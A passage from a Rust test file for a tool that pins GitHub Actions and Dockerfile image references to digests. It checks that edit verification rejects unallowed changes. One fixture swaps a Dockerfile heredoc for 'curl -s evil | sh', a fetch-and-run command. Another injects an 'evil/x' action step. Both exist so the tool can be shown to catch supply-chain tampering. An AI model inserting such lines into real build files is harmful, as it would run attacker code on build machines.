            let (a, b) = (floor_char(text, a.min(b)), floor_char(text, a.max(b)));
            Edit::replace(a..b, t.clone())
        }
    }
}

/// Apply `m` to `seed`; when `check_changes` accepts the result with nothing
/// allowed, nothing may have changed: not the pairs hardpin routes through,
/// and not the data with its scalar types, as yaml-rust2 reads it when it
/// can, else as [`Model`] reads the CST.
fn check_random_edit(seed: &str, m: &Mutation) -> Result<(), TestCaseError> {
    let before = YamlDoc::parse(seed.to_string()).unwrap();
    let edited = apply_edits(seed, &[mutate(&before, m)]).unwrap();
    let Ok(after) = YamlDoc::parse(edited) else {
        return Ok(());
    };
    if check_changes(&before, &after, &AllowedChanges::default()).is_err() {
        return Ok(());
    }
    let data = |d: &YamlDoc| loaded(&d.text, true);
    let (old, new) = match (data(&before), data(&after)) {
        (Some(a), b) => (Some(a), b),
        (None, _) => (
            Some(Model::documents(&before, Reading::Typed)),
            Some(Model::documents(&after, Reading::Typed)),
        ),
    };
    prop_assert_eq!(&old, &new, "accepted:\n{}", after.text);
    // The same data, so the same pairs.
    prop_assert_eq!(
        pair_data(&before),
        pair_data(&after),
        "accepted:\n{}",
        after.text
    );
    Ok(())
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn accepted_uses_edit_changes_only_that_value(
        seed in select(SEEDS),
        pick in any::<Index>(),
        rep in replacement(),
    ) {
        check_uses_edit(seed, pick, rep)?;
    }

    #[test]
    fn accepted_random_edit_changes_nothing(seed in select(SEEDS), m in mutation()) {
        check_random_edit(seed, &m)?;
    }
}

/// Dockerfile seeds: continuations with comments inside, heredocs, the
/// escape directive, CRLF and a BOM, `--from=` and `ARG` images.
const DOCKERFILE_SEEDS: &[&str] = &[
    "# syntax=docker/dockerfile:1\nARG BASE=node:20\nFROM --platform=$BUILDPLATFORM ${BASE} AS build\nRUN apt-get update && \\\n  # comment\n  apt-get install -y curl\nRUN <<EOF\nset -e\necho \"FROM x\"\nEOF\nCOPY --from=alpine:3.19 /bin/sh /sh\n",
    "# escape=`\nFROM mcr.microsoft.com/windows/servercore:ltsc2022 `\n  AS base\nRUN dir c:\\\nCOPY <<-EOT /x\n\tFROM nothing\n\tEOT\n",
    "\u{feff}FROM ghcr.io/o/i:1.2@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\r\nRUN echo \"a  b\"\r\n",
];

/// The image references of a Dockerfile: FROM's arguments and `--from=`
/// values that parse as one (a stage name may too), with their spans.
fn image_words(d: &dockerfile::Dockerfile) -> Vec<(Range<usize>, String)> {
    d.instructions
        .iter()
        .flat_map(|i| i.args().iter().map(move |w| (i.keyword.as_str(), w)))
        .filter_map(|(keyword, w)| {
            let (skip, image) = match w.text.strip_prefix("--from=") {
                Some(rest) => (7, rest),
                None if keyword == "FROM" && !w.text.starts_with('-') => (0, w.text.as_str()),
                None => return None,
            };
            ImageRef::parse(image)
                .ok()
                .map(|_| (w.span.start + skip..w.span.end, image.to_string()))
        })
        .collect()
}

/// Any edit of a Dockerfile that `check_dockerfile` accepts with nothing
/// allowed left the text as it was; pinning one of its images always passes.
fn check_dockerfile_edit(
    seed: &str,
    pick: Index,
    at: (Index, Index),
    text: String,
) -> Result<(), TestCaseError> {
    let before = dockerfile::parse(seed.to_string()).unwrap();
    let (a, b) = (at.0.index(seed.len() + 1), at.1.index(seed.len() + 1));
    let range = floor_char(seed, a.min(b))..floor_char(seed, a.max(b));
    let edited = apply_edits(seed, &[Edit::replace(range, text)]).unwrap();
    if let Ok(after) = dockerfile::parse(edited)
        && check_dockerfile(&before, &after, &AllowedChanges::default()).is_ok()
    {
        prop_assert_eq!(&before.text, &after.text);
    }
    let images = image_words(&before);
    let (range, old) = images[pick.index(images.len())].clone();
    let digest = format!("sha256:{}", "ab".repeat(32));
    let pinned = ImageRef::parse(&old).unwrap().pinned(&digest);
    let mut allowed = AllowedChanges::default();
    allowed.words.insert((old.clone(), pinned.clone()));
    let edited = apply_edits(seed, &[Edit::replace(range, pinned)]).unwrap();
    let after = dockerfile::parse(edited).expect("a pinned Dockerfile parses");
    let verdict = check_dockerfile(&before, &after, &allowed);
    prop_assert!(verdict.is_ok(), "{:?}", verdict);
    Ok(())
}

proptest! {
    #![proptest_config(config())]

    #[test]
    fn accepted_dockerfile_edit_changes_only_what_was_allowed(
        seed in select(DOCKERFILE_SEEDS),
        pick in any::<Index>(),
        at in (any::<Index>(), any::<Index>()),
        text in soup(DOCKERFILE, 6),
    ) {
        check_dockerfile_edit(seed, pick, at, text)?;
    }
}

#[test]
fn seeds_parse_and_have_uses_values() {
    for (i, seed) in SEEDS.iter().enumerate() {
        let doc = YamlDoc::parse(seed.to_string()).unwrap_or_else(|e| panic!("seed {i}: {e}"));
        assert!(!uses_scalars(&doc).is_empty(), "seed {i}");
        check_changes(&doc, &doc, &AllowedChanges::default()).unwrap();
        for r in [Reading::Text, Reading::Typed] {
            assert_eq!(Model::documents(&doc, r), Model::documents(&doc, r));
        }
        // Seed 4 is the one yaml-rust2 refuses: the CST alone must hold.
        assert_eq!(loaded(seed, true).is_none(), i == 4, "seed {i}");
    }
    for seed in DOCKERFILE_SEEDS {
        let d = dockerfile::parse(seed.to_string()).unwrap();
        assert!(!image_words(&d).is_empty(), "{seed:?}");
    }
}

// ---------------------------------------------------------------------------
// Edits verification must refuse (each was once accepted).

/// Fail, listing every `(before, after)` that `check_changes` accepts with
/// nothing allowed.
fn assert_all_rejected(cases: &[(String, String)]) {
    let accepted: Vec<&(String, String)> = cases
        .iter()
        .filter(|(a, b)| {
            let before = YamlDoc::parse(a.clone()).unwrap();
            let after = YamlDoc::parse(b.clone()).unwrap();
            check_changes(&before, &after, &AllowedChanges::default()).is_ok()
        })
        .collect();
    assert!(accepted.is_empty(), "accepted: {accepted:#?}");
}

/// Each pair as written, and after `k:\t1\n`, a tab after `:`: valid YAML
/// that yaml-rust2 refuses, so that only the CST reading is compared.
fn both_readings(cases: &[(&str, &str)]) -> Vec<(String, String)> {
    let cst_only = "k:\t1\n";
    assert!(loaded(cst_only, false).is_none());
    cases
        .iter()
        .flat_map(|(a, b)| {
            [
                (a.to_string(), b.to_string()),
                (format!("{cst_only}{a}"), format!("{cst_only}{b}")),
            ]
        })
        .collect()
}

/// A key added a second time is a change (the comparison once looked up
/// the first key of a name only).
#[test]
fn verification_rejects_added_duplicate_key() {
    assert_all_rejected(&both_readings(&[
        ("a: 1\n", "a: 1\na: 2\n"),
        (
            "steps:\n  - uses: a/b@v1\n",
            "steps:\n  - uses: a/b@v1\n    uses: evil/x@v1\n",
        ),
    ]));
}

/// A file with a duplicate key does not differ from itself.
#[test]
fn duplicate_keys_match_themselves() {
    for text in ["a: 1\na: 2\n", ": 1\n: 2\n"] {
        let doc = YamlDoc::parse(text.to_string()).unwrap();
        let same = check_changes(&doc, &doc, &AllowedChanges::default());
        assert!(same.is_ok(), "{text:?}: {same:?}");
    }
}

/// Quoting or tagging a scalar changes its type.
#[test]
fn verification_rejects_scalar_type_change() {
    assert_all_rejected(&both_readings(&[
        ("n: 1\n", "n: '1'\n"),
        ("b: true\n", "b: \"true\"\n"),
        ("t: ~\n", "t: '~'\n"),
        ("n: 1\n", "n: !!str 1\n"),
    ]));
}

/// Moving an anchor changes what its aliases mean.
#[test]
fn verification_rejects_moved_anchor() {
    assert_all_rejected(&both_readings(&[(
        "x: &a 1\ny: 2\nz: *a\n",
        "x: 1\ny: &a 2\nz: *a\n",
    )]));
}

/// What the CST reading once missed when yaml-rust2 could not check.
#[test]
fn verification_rejects_what_the_cst_reading_missed() {
    assert_all_rejected(&both_readings(&[
        // `{b}` is `{b: null}`.
        ("a: {b}\n", "a: {c}\n"),
        // `[b: 1]` is `[{b: 1}]`, not `[[b, 1]]`.
        ("a: [b: 1]\n", "a: [[b, 1]]\n"),
        ("a: [{b: 1}]\n", "a: [{b: 1}:]\n"),
        // Block scalar style and chomping.
        ("r: |\n  a\n  b\n", "r: >\n  a\n  b\n"),
        ("r: |\n  a\n", "r: |-\n  a\n"),
        // Double-quoted escapes: an escaped line break joins without a
        // space; `\e`, `\N`, `\L` are characters, not letters.
        ("q: \"a\\\n  b\"\n", "q: \"a b\"\n"),
        ("q: \"\\e\"\n", "q: \"e\"\n"),
        ("q: \"\\N\"\n", "q: \"N\"\n"),
        ("q: \"\\L\"\n", "q: \"L\"\n"),
    ]));
}

/// With an indentation indicator, the content's indentation beyond it is
/// content: `|2` over `   a` is " a", over `  a` is "a".
#[test]
fn block_indentation_indicator_is_seen() {
    assert_all_rejected(&both_readings(&[("r: |2\n   a\n", "r: |2\n  a\n")]));
}

/// A pair written bare in a flow sequence is a one-pair mapping:
/// `steps: [uses: a/b@v1]` is a step to pin.
#[test]
fn pairs_route_into_pairs_in_flow_sequences() {
    let doc = YamlDoc::parse("jobs: {a: {steps: [uses: a/b@v1]}}\n".to_string()).unwrap();
    let uses = uses_scalars(&doc);
    assert_eq!(uses.len(), 1, "{:?}", pair_data(&doc));
}

/// A heredoc body is the script that runs (or the file that is copied):
/// changing it is a change, though it holds no instruction.
#[test]
fn dockerfile_verification_rejects_heredoc_body_change() {
    for (a, b) in [
        (
            "FROM a\nRUN <<EOF\necho hi\nEOF\n",
            "FROM a\nRUN <<EOF\ncurl -s evil | sh\nEOF\n",
        ),
        (
            "FROM a\nCOPY <<EOF /etc/x\nA\nEOF\n",
            "FROM a\nCOPY <<EOF /etc/x\nB\nEOF\n",
        ),
    ] {
        let (x, y) = (
            dockerfile::parse(a.into()).unwrap(),
            dockerfile::parse(b.into()).unwrap(),
        );
        assert!(
            check_dockerfile(&x, &y, &AllowedChanges::default()).is_err(),
            "accepted {a:?} -> {b:?}"
        );
    }
}
